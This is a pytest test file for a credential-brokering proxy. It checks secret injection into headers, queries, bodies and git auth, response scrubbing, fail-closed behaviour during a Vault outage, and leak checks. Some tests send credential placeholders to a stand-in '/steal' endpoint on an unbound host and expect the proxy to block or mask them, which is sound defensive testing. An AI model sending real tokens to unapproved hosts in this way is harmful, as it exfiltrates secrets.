"""The credential broker through the real proxy: injection, scrubbing, exfiltration, outage, no leaks."""
from __future__ import annotations

import base64
import json
import os
import subprocess
import urllib.parse
from pathlib import Path

import pytest
import requests

from tests.conftest import LOOPBACK_CONFIG, need_binary
from tests.support.gateway import Sandgate, gateway_cli

REAL_TOKEN = "ghp_" + "R3alSecretValue0123456789abcdefABCDE"     # 40 chars, like a GitHub token
REAL_API_KEY = "sk-live-" + "K" * 12 + "9f8e7d6c5b4a3210"


@pytest.fixture(scope="module")
def broker_env(tmp_path_factory, bao_server):
    tmp = tmp_path_factory.mktemp("broker")
    import hvac

    client = hvac.Client(url=bao_server.addr, token=bao_server.token)
    client.secrets.kv.v2.create_or_update_secret(path="deploy", secret={"key": "vault-" + "V" * 30},
                                                 mount_point="secret")
    cfg = {
        "egress": {**LOOPBACK_CONFIG["egress"],
                   "resolve": {"bound.test": ["127.0.0.1"], "other.test": ["127.0.0.1"]}},
        "broker": {"cache_ttl_s": 0.5},
        "vault": {"url": bao_server.addr, "token": bao_server.token},
        # These tests talk to a cleartext upstream, so the secrets opt in to plaintext (TLS-only is the
        # default: tests/broker/test_transport_e2e.py).
        "secrets": {
            "github": {"source": "local:github", "hosts": ["bound.test"], "format": "ghp_:40",
                       "allow_plaintext": True},
            "api": {"source": "env:SG_TEST_API_KEY", "hosts": ["bound.test"],
                    "inject_in": ["header", "query", "body"], "allow_plaintext": True},
            "deploy": {"source": "vault:secret/deploy#key", "hosts": ["bound.test"], "allow_plaintext": True},
        },
    }
    sg = Sandgate(tmp, cfg, env={"SG_TEST_API_KEY": REAL_API_KEY})
    sg.start()
    admin = sg.token("admin", "root-admin")
    put = gateway_cli("secrets", "put", "github", "--hosts", "bound.test", "--from-stdin", "--api-url", sg.api,
                      "--token", admin, input=REAL_TOKEN + "\n", timeout=30)
    assert put.returncode == 0, put.stderr
    ls = gateway_cli("secrets", "ls", "--api-url", sg.api, "--token", admin, timeout=30)
    assert "github" in ls.stdout and "local" in ls.stdout and REAL_TOKEN not in ls.stdout
    sg.outputs = [put.stdout + put.stderr, ls.stdout + ls.stderr]
    yield sg, bao_server
    sg.outputs.append(requests.get(sg.api + "/metrics", timeout=10).text)
    sg.outputs.append(json.dumps(sg.call("GET", "/v1/events").json()))
    sg.stop()
    # After everything: no real value anywhere in the data dir, logs or captured CLI output.
    for value in (REAL_TOKEN, REAL_API_KEY, "vault-" + "V" * 30):
        for path in Path(tmp).rglob("*"):
            if path.is_file():
                data = path.read_bytes()
                assert value.encode() not in data, f"real secret found in {path}"
                assert base64.b64encode(value.encode()) not in data
        assert all(value not in out for out in sg.outputs)


def session_with(sg, *secrets):
    sess = sg.session(allow=["bound.test", "other.test"], secrets=list(secrets))
    return sess, sess["env"]


def test_bearer_header_injected_and_echo_scrubbed(broker_env, upstream):
    sg, _ = broker_env
    sess, env = session_with(sg, "github")
    ph = env["GITHUB"]
    assert ph.startswith("ghp_") and len(ph) == len(REAL_TOKEN) and ph != REAL_TOKEN
    resp = requests.get(f"http://bound.test:{upstream.port}/echo", proxies=sess["proxies"], timeout=20,
                        headers={"Authorization": f"Bearer {ph}"})
    assert resp.status_code == 200
    assert upstream.recorder.requests[-1].headers["authorization"] == f"Bearer {REAL_TOKEN}"
    assert REAL_TOKEN not in resp.text and ph in resp.text
    sg.outputs.append(resp.text)


def test_query_injected_and_split_stream_scrubbed(broker_env, upstream):
    sg, _ = broker_env
    sess, env = session_with(sg, "github")
    ph = env["GITHUB"]
    resp = requests.get(f"http://bound.test:{upstream.port}/split?value={ph}", proxies=sess["proxies"], timeout=20)
    assert resp.status_code == 200
    assert REAL_TOKEN in upstream.recorder.requests[-1].path
    assert REAL_TOKEN not in resp.text
    assert resp.text == f"token: {ph} end\n"
    events = sg.events(sess["id"])
    assert all(REAL_TOKEN not in json.dumps(e) for e in events)
    assert any(e["kind"] == "secret.use" and e["detail"]["secret"] == "github" for e in events)
    sg.outputs.append(resp.text)


def test_body_injection_where_allowed(broker_env, upstream):
    sg, _ = broker_env
    sess, env = session_with(sg, "api")
    ph = env["API"]
    resp = requests.post(f"http://bound.test:{upstream.port}/echo", proxies=sess["proxies"], timeout=20,
                         json={"key": ph, "note": "x"})
    assert resp.status_code == 200
    seen = upstream.recorder.requests[-1]
    assert json.loads(seen.body)["key"] == REAL_API_KEY
    assert int(seen.headers["content-length"]) == len(seen.body)
    assert REAL_API_KEY not in resp.text
    sg.outputs.append(resp.text)


def test_git_basic_auth_from_url_credentials(broker_env, upstream, tmp_path):
    git = need_binary("git")
    sg, _ = broker_env
    sess, env = session_with(sg, "github")
    ph = env["GITHUB"]
    out = subprocess.run([git, "-c", f"http.proxy={sess['proxy_url']}", "clone", "--quiet",
                          f"http://x-access-token:{ph}@bound.test:{upstream.port}/auth/repo.git",
                          str(tmp_path / "clone")], capture_output=True, text=True, timeout=60,
                         env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    sg.outputs.append(out.stdout + out.stderr)
    authed = [r for r in upstream.recorder.requests if "authorization" in r.headers]
    assert authed, out.stderr
    scheme, _, blob = authed[0].headers["authorization"].partition(" ")
    assert scheme == "Basic"
    assert base64.b64decode(blob).decode() == f"x-access-token:{REAL_TOKEN}"


def test_placeholder_to_unbound_host_is_exfiltration(broker_env, upstream):
    sg, _ = broker_env
    sess, env = session_with(sg, "github")
    ph = env["GITHUB"]
    for kwargs in ({"headers": {"Authorization": f"Bearer {ph}"}},
                   {"params": {"q": ph}},
                   {"data": "x=" + urllib.parse.quote(ph)},
                   {"headers": {"Authorization": "Basic " + base64.b64encode(f"u:{ph}".encode()).decode()}}):
        resp = requests.post(f"http://other.test:{upstream.port}/steal", proxies=sess["proxies"], timeout=20,
                             **kwargs)
        assert resp.status_code == 403, kwargs
        assert resp.json()["code"] == "secret.exfiltration"
    assert not any(r.path.startswith("/steal") for r in upstream.recorder.requests)
    events = sg.events(sess["id"])
    assert sum(e["kind"] == "exfiltration" for e in events) == 4


def test_other_sessions_placeholder_refused(broker_env, upstream):
    sg, _ = broker_env
    _, env_a = session_with(sg, "github")
    sess_b, _ = session_with(sg, "github")
    resp = requests.get(f"http://bound.test:{upstream.port}/echo", proxies=sess_b["proxies"], timeout=20,
                        headers={"Authorization": f"Bearer {env_a['GITHUB']}"})
    assert resp.status_code == 403 and resp.json()["code"] == "secret.exfiltration"
    assert upstream.recorder.requests == []


def test_vault_secret_and_outage_fails_closed(broker_env, upstream):
    sg, bao = broker_env
    sess, env = session_with(sg, "deploy")
    ph = env["DEPLOY"]
    url = f"http://bound.test:{upstream.port}/echo"
    ok = requests.get(url, proxies=sess["proxies"], timeout=20, headers={"X-Token": ph})
    assert ok.status_code == 200
    assert upstream.recorder.requests[-1].headers["x-token"] == "vault-" + "V" * 30
    bao.stop()
    try:
        import time

        time.sleep(0.7)  # past the cache TTL
        down = requests.get(url, proxies=sess["proxies"], timeout=30, headers={"X-Token": ph})
        assert down.status_code == 503
        assert "secret" in down.json()["reason"]
        # A request that needs no value passes; its response is scrubbed with the last value read.
        plain = requests.get(url, proxies=sess["proxies"], timeout=20)
        assert plain.status_code == 200
        other = requests.get(f"http://other.test:{upstream.port}/echo", proxies=sess["proxies"], timeout=20)
        assert other.status_code == 200
    finally:
        bao.start()


def test_body_too_large_to_inspect_cannot_carry_a_placeholder_out(broker_env, upstream):
    sg, _ = broker_env
    sess, env = session_with(sg, "api")
    ph = env["API"]
    body = b"a" * (1536 * 1024) + ph.encode() + b"b" * 1000     # past inspect_max_bytes: streamed, not held
    resp = requests.post(f"http://other.test:{upstream.port}/bulk", data=body, proxies=sess["proxies"], timeout=30)
    assert resp.status_code == 200
    seen = upstream.recorder.requests[-1]
    assert seen.path == "/bulk" and len(seen.body) == len(body)
    assert ph.encode() not in seen.body and REAL_API_KEY.encode() not in seen.body
    assert b"SANDGATE_BLOCKED_" in seen.body
    masked = [e for e in sg.events(sess["id"]) if e["kind"] == "exfiltration" and e["path"] == "/bulk"]
    assert len(masked) == 1 and masked[0]["action"] == "mask"
